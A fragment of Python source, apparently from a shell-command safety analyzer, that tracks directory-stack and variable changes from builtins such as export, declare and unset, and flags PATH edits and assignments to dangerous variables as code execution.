        if stack and not operands and "-n" not in argv:
            top, _, rest = stack.partition("\0")
            env.cwd = top
            env.vars[_DIRSTACK] = rest
        elif "-n" not in argv:
            env.cwd = None
            env.vars.pop(_DIRSTACK, None)

    elif program in ("export", "declare", "typeset", "local", "readonly"):
        for value, flag in zip(argv[1:], flags[1:], strict=False):
            name, eq, text = value.partition("=")
            if not eq or not name.replace("_", "a").isalnum():
                continue
            if flag & (DYNAMIC | GLOB):
                env.vars.pop(name, None)
            else:
                env.vars[name] = text
            if name == "PATH":
                fact.markers.add("path_modified")
                env.vars[PATH_CHANGED] = "1"
            if name in DANGEROUS_VARIABLES:
                fact.markers.add("env_code")
                fact.classes.add("code_exec")
                env.vars.setdefault("__CLEARANCE_ENV_CODE__", name)
    elif program == "unset" or (
        program in ("read", "mapfile", "readarray", "getopts", "printf") and len(argv) > 1
    ):
        for value in argv[1:]:
            env.vars.pop(value, None)
